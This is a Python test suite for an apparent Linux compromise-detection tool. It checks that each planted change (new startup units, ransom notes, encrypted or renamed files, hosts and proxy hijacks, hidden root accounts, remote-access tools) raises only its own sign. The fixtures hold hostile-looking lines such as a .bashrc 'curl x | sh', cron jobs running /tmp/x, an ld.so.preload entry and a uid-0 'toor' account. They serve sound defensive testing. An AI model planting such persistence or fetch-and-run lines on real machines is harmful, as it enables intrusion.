"""Each change made on a computer moves its own sign in the examination, and no other; undone, the sign goes."""

import json
import os
import subprocess
import sys
import threading
from datetime import UTC, datetime

import msgspec
import pytest

from hygie.incident.examination import Conclusion, conclusion
from hygie.probes import facts as known
from hygie.probes.collect import ask, collect
from hygie.probes.examine import examination_probes, examine
from hygie.probes.examine.accounts import new_accounts
from hygie.probes.examine.answers import DamagedFiles, DiskTrouble, NewStartup, OwnProxies
from hygie.probes.examine.disks import disk_trouble
from hygie.probes.examine.files import damaged_files
from hygie.probes.examine.startup import new_startup
from hygie.probes.examine.updates import LOCKS, update_running
from hygie.probes.machine import Machine
from hygie.reference.examination import examination_rules
from tests.namespaces import own_mounts

OLD = 400
LINE = "2026-11-23T10:00:00+00:00 pc "
NOISE = os.urandom(8192)
PDF = b"%PDF-1.7\n" + NOISE
CANARY = "DUPONT-Marcelle"
FIREFOX = "/home/helene/.mozilla/firefox/a.default"
THIS_MORNING = 1795507200
READ_ONLY = "24 1 8:1 / / rw,relatime - ext4 /dev/sda1 ro,errors=remount-ro\n"
SECTOR = "kernel: blk_update_request: I/O error, dev sda, sector 12"
ROOT_MOUNT = "24 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw\n"


@pytest.fixture
def practice(box):
    """A computer in good order, everything on it a year old."""
    home = box.person()
    box.write("/etc/group", "root:x:0:\nsudo:x:27:helene\n", age_days=OLD)
    box.write("/etc/passwd-", "\n".join(box.passwd[:1]) + "\nhelene:x:1000:1000::/home/helene:/bin/bash\n")
    box.write("/etc/group-", "root:x:0:\nsudo:x:27:helene\n")
    box.installed("base-files")
    box.write("/var/lib/dpkg/info/cron.list", "/etc/crontab\n/lib/systemd/system/cron.service\n", age_days=OLD)
    for name in ("/etc/crontab", "/usr/lib/systemd/system/cron.service", "/etc/systemd/system/backup.service",
                 f"{home}/.config/autostart/agenda.desktop", "/etc/cron.d/backup"):  # fmt: skip
        box.write(name, "x", age_days=OLD)
    box.write("/etc/skel/.bashrc", "# model\n")
    box.write(f"{home}/.bashrc", "# model\n")
    box.write("/etc/hosts", "127.0.0.1 localhost\n192.168.1.20 imprimante\n")
    box.write("/etc/resolv.conf", "nameserver 192.168.1.1\n")
    box.write("/var/log/auth.log", f"{LINE}sshd[1]: Server listening\n")
    box.write("/var/log/kern.log", f"{LINE}kernel: usb 1-2: new device\n")
    box.write("/proc/locks", "1: POSIX  ADVISORY  WRITE 12 08:01:1 0 EOF\n")
    box.write("/proc/self/mountinfo", ROOT_MOUNT)
    box.write("/usr/share/update-notifier/notify-reboot-required")
    box.folder("/etc/apt")
    for number in range(8):
        box.write(f"{home}/Documents/{CANARY}-{number}.pdf", PDF)
    return box


def look(box, running=("cron",), **more) -> Conclusion:
    machine = box.machine(running=running, mounted=ROOT_MOUNT, **more)
    return conclusion(examine(machine, deadline=30, platform="linux"))


def ids(found: Conclusion) -> set[str]:
    return {one.id for one in (*found.signs, *found.faults)}


def everything(found: Conclusion) -> str:
    return repr(found)


def test_a_quiet_computer_is_unknown_and_never_well(practice):
    found = look(practice)
    assert ids(found) == set()
    assert found.verdict == "unknown"
    assert found.playbook is None
    assert {one.question for one in found.not_seen} == {"services"}


def locked(box):
    place = box.write(LOCKS[0])
    status = place.stat()
    device = f"{os.major(status.st_dev):02x}:{os.minor(status.st_dev):02x}:{status.st_ino}"
    box.write("/proc/locks", f"1: POSIX  ADVISORY  WRITE 77 {device} 0 EOF\n")


def encrypted(box):
    for number in range(8):
        box.write(f"/home/helene/Documents/{CANARY}-{number}.pdf", os.urandom(8192))


def renamed(box):
    for number in range(8):
        place = box.path(f"/home/helene/Documents/{CANARY}-{number}.pdf")
        place.rename(place.with_name(place.name + ".qzxv"))


def added_account(box):
    box.person("technique", 1001)


def promoted(box):
    box.write("/etc/group", "root:x:0:\nsudo:x:27:helene,benoit\n")


def twin(box):
    box.passwd.append("toor:x:0:0::/root:/bin/sh")
    box.accounts()
    box.write("/etc/passwd", box.path("/etc/passwd").read_text(), age_days=OLD)


def new_tool(box):
    os.utime(box.folder("/opt/rustdesk"), (THIS_MORNING, THIS_MORNING))


CHANGES = {
    "new_startup": [
        lambda box: box.write("/etc/systemd/system/updater.service", "[Service]"),
        lambda box: box.write("/usr/lib/systemd/system/updater.service", "[Service]"),
        lambda box: box.write("/etc/cron.d/updater", "* * * * * root /tmp/x"),
        lambda box: box.write("/var/spool/cron/crontabs/helene", "* * * * * /tmp/x"),
        lambda box: box.write("/home/helene/.config/autostart/x.desktop", "[Desktop Entry]"),
        lambda box: box.write("/home/helene/.config/systemd/user/x.service", "[Service]"),
        lambda box: box.write("/etc/rc.local", "#!/bin/sh"),
        lambda box: box.write("/home/helene/.bashrc", "# model\ncurl x | sh\n"),
        lambda box: box.write("/etc/crontab", "edited"),
        lambda box: box.link("/etc/systemd/system/evil.service", "/opt/evil.service"),
        lambda box: box.write("/etc/ld.so.preload", "/opt/x.so"),
    ],
    "ransom_note": [
        lambda box: box.write("/home/helene/Bureau/HOW TO DECRYPT FILES.txt"),
        lambda box: box.write("/home/helene/Documents/rapports/README_TO_RESTORE.html"),
        lambda box: box.write("/home/helene/Documents/!!!READ_ME!!!.txt"),
    ],
    "renamed_files": [renamed],
    "unreadable_files": [encrypted],
    "diverted_names": [lambda box: box.write("/etc/hosts", "203.0.113.9 www.ameli.fr\n")],
    "unusual_resolvers": [lambda box: box.write("/etc/resolv.conf", "nameserver 198.41.0.4\n")],
    "proxy": [
        lambda box: box.write("/etc/environment", "https_proxy=http://203.0.113.9:8080\n"),
        lambda box: box.write("/etc/apt/apt.conf", 'Acquire::http::Proxy "http://203.0.113.9:3128";\n'),
        lambda box: box.write(
            "/home/helene/.mozilla/firefox/a.default/prefs.js", 'user_pref("network.proxy.type", 1);\n'
        ),
        lambda box: box.write("/etc/dconf/db/local.d/00-x", "[system/proxy]\nmode='manual'\n"),
    ],
    "root_twins": [twin],
    "new_administrators": [
        lambda box: box.write("/var/log/auth.log", f"{LINE}usermod[9]: add 'helene' to group 'sudo'\n"),
        lambda box: box.write("/var/log/auth.log", f"{LINE}gpasswd[9]: user helene added by root to group sudo\n"),
    ],
    "new_accounts": [added_account],
    "remote_recent": [new_tool],
    "read_only_disk": [lambda box: box.write("/proc/self/mountinfo", READ_ONLY)],
    "disk_errors": [lambda box: box.write("/var/log/kern.log", f"{LINE}{SECTOR}\n")],
    "update_running": [locked],
    "pending_reboot": [lambda box: box.write("/run/reboot-required")],
}


@pytest.mark.parametrize(("sign", "change"), [(sign, change) for sign, all_ in CHANGES.items() for change in all_])
def test_each_change_moves_its_sign_and_only_it(practice, sign, change):
    before = ids(look(practice))
    change(practice)
    found = look(practice)
    assert before == set()
    assert ids(found) == {sign}
    weight = examination_rules().sign(sign).weight
    assert found.verdict == {"strong": "attack", "weak": "unknown", "fault": "fault"}[weight]
    assert CANARY not in everything(found)
    assert "helene" not in everything(found)


def test_a_remote_tool_that_runs(practice):
    assert ids(look(practice, running=("cron", "AnyDesk"))) == {"remote_running"}


def test_a_remote_tool_that_is_new_and_runs_is_a_false_support(practice):
    practice.folder("/opt/anydesk")
    os.utime(practice.path("/opt/anydesk"), (THIS_MORNING, THIS_MORNING))
    found = look(practice, running=("anydesk",))
    assert ids(found) == {"remote_new_and_running"}
    assert (found.verdict, found.playbook) == ("attack", "fake_support")


def test_a_remote_tool_installed_long_ago_is_only_told(practice):
    practice.installed("anydesk")
    practice.write("/var/lib/dpkg/info/anydesk.list", "/usr/bin/anydesk\n", age_days=OLD)
    found = look(practice)
    assert ids(found) == set()
    assert {one.id for one in found.to_tell} == {"remote_installed", "administrators"}


def test_a_new_administrator_by_the_copy_of_the_groups(practice):
    practice.passwd.append("benoit:x:1002:1002::/home/benoit:/bin/bash")
    practice.accounts()
    practice.write("/etc/passwd-", practice.path("/etc/passwd").read_text())
    promoted(practice)
    assert ask(new_accounts, practice.machine()).administrators == 1


def test_what_a_package_installed_today_is_not_new(practice):
    practice.write("/var/lib/dpkg/info/tool.list", "/lib/systemd/system/tool.service\n")
    practice.write("/usr/lib/systemd/system/tool.service", "[Service]", age_days=0)
    at = practice.path("/var/lib/dpkg/info/tool.list").stat().st_mtime
    os.utime(practice.path("/usr/lib/systemd/system/tool.service"), (at - 10, at - 10))
    assert ask(new_startup, practice.machine()).groups == ()


def test_what_enabling_a_unit_or_updating_a_snap_makes_does_not_count(practice):
    practice.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
    practice.link("/etc/systemd/system/masked.service", "/dev/null")
    practice.write("/etc/systemd/system/snap-firefox-1234.mount", "[Mount]")
    assert ask(new_startup, practice.machine()).groups == ()


def test_an_ordinary_person_is_told_what_was_closed(practice, as_nobody):
    practice.path("/home/helene").chmod(0o700)
    practice.folder("/var/spool/cron/crontabs", 0o700)
    code = (
        "import json\nfrom hygie.incident.examination import conclusion\nfrom hygie.probes.examine import examine\n"
        "found = conclusion(examine(machine, platform='linux'))\n"
        "print(json.dumps([found.verdict, [(one.question, one.wholly) for one in found.not_seen]]))"
    )
    verdict, blind = json.loads(as_nobody(practice.root, code))
    assert verdict == "unknown"
    assert ["files", True] in blind
    assert ["startup", False] in blind


def test_a_fault_is_not_concluded_while_files_are_hidden(practice):
    practice.write("/run/reboot-required")
    found = look(practice, look_at_files=False)
    assert ids(found) == {"pending_reboot"}
    assert found.verdict == "unknown"


def test_a_full_disk_on_a_real_volume(practice):
    practice.folder("/data")
    code = (
        "import sys\nfrom datetime import UTC, datetime\nfrom pathlib import Path\n"
        "from hygie.probes.machine import Machine\nfrom hygie.probes.examine.disks import disk_trouble\n"
        "print(disk_trouble(Machine(now=datetime.now(UTC), root=Path(sys.argv[1]))).full)"
    )
    practice.write("/proc/self/mountinfo", "30 24 0:99 / /data rw - tmpfs tmpfs rw\n")
    script = 'mount -t tmpfs -o size=1m none "$1/data"; {}; exec "$0" -B -c "$2" "$1"'
    answers = []
    for fill in ("true", 'head -c 1040000 /dev/zero > "$1/data/x"'):
        command = [*own_mounts(), "bash", "-ec", script.format(fill), sys.executable, str(practice.root), code]
        done = subprocess.run(command, check=False, text=True, capture_output=True, timeout=60)
        assert done.returncode == 0, done.stderr
        answers.append(done.stdout.strip())
    assert answers == ["0", "1"]


def test_a_disk_mounted_read_only_by_choice_is_no_fault(practice):
    practice.write("/proc/self/mountinfo", "24 1 8:1 / /archive ro - ext4 /dev/sdb1 ro\n")
    practice.write("/etc/fstab", "/dev/sdb1 /archive ext4 ro,nofail 0 2\n")
    assert ask(disk_trouble, practice.machine()) == DiskTrouble(0, 0, 0, 0, 7)


def test_an_error_of_last_month_is_not_told(practice):
    practice.write("/var/log/kern.log", "2026-10-01T10:00:00+00:00 pc kernel: Buffer I/O error on dev sda1\n")
    assert ask(disk_trouble, practice.machine()).errors == 0


def test_a_disk_that_announces_its_end(tmp_path):
    program = tmp_path / "smartctl"
    program.write_text('#!/bin/sh\n[ "$1" = --scan ] && { echo "/dev/sda -d scsi # /dev/sda"; exit 0; }\nexit 8\n')
    program.chmod(0o755)
    machine = Machine(now=datetime.now(UTC), environment={"PATH": f"{tmp_path}:/usr/bin:/bin"})
    assert disk_trouble(machine).failing == 1
    program.write_text('#!/bin/sh\n[ "$1" = --scan ] && { echo "/dev/sda -d scsi"; exit 0; }\nexit 4\n')
    assert disk_trouble(machine).failing == 0


def test_a_real_lock_is_seen_on_the_running_computer(live):
    setup = "mount -t tmpfs none /var/lib/dpkg; touch /var/lib/dpkg/status /var/lib/dpkg/lock-frontend"
    code = """
import fcntl, os
from hygie.probes.examine.updates import update_running
before = update_running(machine).running
held = open("/var/lib/dpkg/lock-frontend", "w")
fcntl.lockf(held, fcntl.LOCK_EX)
other = Machine(now=datetime.now(UTC))
print(before, update_running(other).running)
"""
    assert live(setup, code) == "False True"


def test_the_lock_of_another_file_proves_nothing(practice):
    practice.write(LOCKS[0])
    assert not ask(update_running, practice.machine(running=())).running


def test_a_few_odd_endings_or_broken_files_prove_nothing(practice):
    for number in range(4):
        practice.write(f"/home/helene/Documents/{number}.pdf.v{number}", PDF)
    for number in range(2):
        practice.write(f"/home/helene/Documents/broken{number}.pdf", os.urandom(8192))
    assert ids(look(practice)) == set()


def test_text_renamed_as_a_document_is_not_a_cipher(practice):
    for number in range(8):
        practice.write(f"/home/helene/Documents/note{number}.doc", b"Compte rendu de consultation. " * 300)
    assert ids(look(practice)) == set()


@pytest.mark.parametrize(
    "head", [b"RIFF\0\0\0\0WEBP", b"\0\0\0\x20ftypheic", b"GIF89a", b"%PDF-1.7", b"\xd0\xcf\x11\xe0"]
)
def test_another_readable_file_under_a_wrong_ending_is_not_a_cipher(practice, head):
    for number in range(8):
        practice.write(f"/home/helene/Images/photo{number}.jpg", head + os.urandom(8192))
    assert ids(look(practice)) == set()


@pytest.mark.parametrize("ending", ["1", "xmp", "apz", "zip", "txt"])
def test_sidecars_and_copies_are_not_renamed_files(practice, ending):
    for number in range(8):
        practice.write(f"/home/helene/Images/photo{number}.jpg.{ending}", "x")
    assert ids(look(practice)) == set()


def test_a_link_out_and_a_pipe_are_never_opened(practice):
    practice.link("/home/helene/Documents/out.pdf", "/dev/zero")
    os.mkfifo(practice.path("/home/helene/Documents/pipe.pdf"))
    assert isinstance(ask(damaged_files, practice.machine()), DamagedFiles)


def test_too_many_files_are_said_to_be_a_sample(practice, monkeypatch):
    rules = examination_rules()
    small = replace_limits(rules, entries=3)
    monkeypatch.setattr("hygie.probes.examine.files.examination_rules", lambda: small)
    assert "échantillon" in ask(damaged_files, practice.machine()).partial


def replace_limits(rules, **changes):
    return msgspec.structs.replace(rules, files=msgspec.structs.replace(rules.files, **changes))


def test_a_probe_that_hangs_is_unknown_at_the_deadline(practice):
    machine = practice.machine(running=(), mounted=ROOT_MOUNT)
    gate = threading.Event()
    probes = {**examination_probes("linux"), NewStartup: lambda _: gate.wait(30)}
    found = conclusion(collect(machine, probes, budget_seconds=2))
    gate.set()
    assert ("startup", True) in {(one.question, one.wholly) for one in found.not_seen}
    assert found.verdict == "unknown"


def test_the_running_computer_is_examined_within_its_deadline():
    found = examine(Machine(now=datetime.now(UTC)), deadline=40, platform="linux")
    for kind in (DamagedFiles, NewStartup, DiskTrouble, OwnProxies, known.HostsFile, known.Administrators):
        assert "n'a pas répondu" not in repr(found.get(kind))
        assert "pas compris" not in repr(found.get(kind))


@pytest.mark.parametrize("platform", ["win32", "darwin"])
def test_other_systems_say_what_is_not_measured_there(platform):
    probes = examination_probes(platform)
    assert known.HostsFile in probes
    assert known.RemoteTools in probes
    assert DamagedFiles not in probes


def test_examining_changes_nothing(practice):
    def state():
        return {str(path): path.lstat().st_mtime_ns for path in sorted(practice.root.rglob("*"))}

    before = state()
    look(practice)
    assert state() == before
